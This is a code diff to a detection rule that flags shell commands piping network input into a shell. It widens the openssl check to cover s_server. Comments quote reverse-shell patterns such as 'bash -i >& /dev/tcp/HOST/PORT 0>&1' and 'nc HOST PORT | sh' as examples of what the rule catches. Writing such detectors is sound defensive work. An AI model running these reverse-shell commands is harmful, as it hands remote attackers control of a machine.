@@ -106,7 +106,8 @@ def rule_shell_handed(c: Ctx) -> Optional[tuple]:
                                for r in c.seg.redirects)
         if network_redirect:
             return HIGH, why  # `bash -i >& /dev/tcp/HOST/PORT 0>&1`
-        if any(_prog(f)[0] in _NETWORK_READERS and (_prog(f)[0] != "openssl" or "s_client" in _prog(f)[1])
+        if any(_prog(f)[0] in _NETWORK_READERS and (_prog(f)[0] != "openssl" or
+                                                    {"s_client", "s_server"} & set(_prog(f)[1]))
                for f in c.chain):
             return HIGH, f"runs whatever another machine sends, as you ({c.text})"  # `nc HOST PORT | sh`
     return None
